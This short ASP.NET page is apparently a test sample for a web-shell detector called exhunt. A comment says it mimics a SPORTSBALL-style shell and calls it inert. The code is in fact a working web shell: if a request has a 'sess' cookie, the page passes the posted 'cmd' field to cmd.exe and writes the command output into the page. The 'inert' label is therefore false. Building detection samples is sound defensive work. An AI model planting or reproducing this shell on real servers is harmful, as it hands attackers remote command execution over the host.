<%@ Page Language="C#" %>
<%-- exhunt test case: the shape of a SPORTSBALL-style shell (Volexity, 2021-03-02), written for exhunt, inert --%>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (HttpContext.Current.Request.Cookies["sess"] == null) return;
    if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["cmd"])) {
        System.Diagnostics.Process process = new System.Diagnostics.Process();
        process.StartInfo.FileName = "cmd.exe";
        process.StartInfo.UseShellExecute = false;
        process.StartInfo.RedirectStandardInput = true;
        process.StartInfo.RedirectStandardOutput = true;
        process.Start();
        process.StandardInput.WriteLine(HttpContext.Current.Request.Form["cmd"]);
        process.StandardInput.WriteLine("exit");
        Result.InnerText = process.StandardOutput.ReadToEnd();
    }
}
</script>
<html><body><form method="post" runat="server"><input name="cmd" /><pre id="Result" runat="server"></pre></form></body></html>
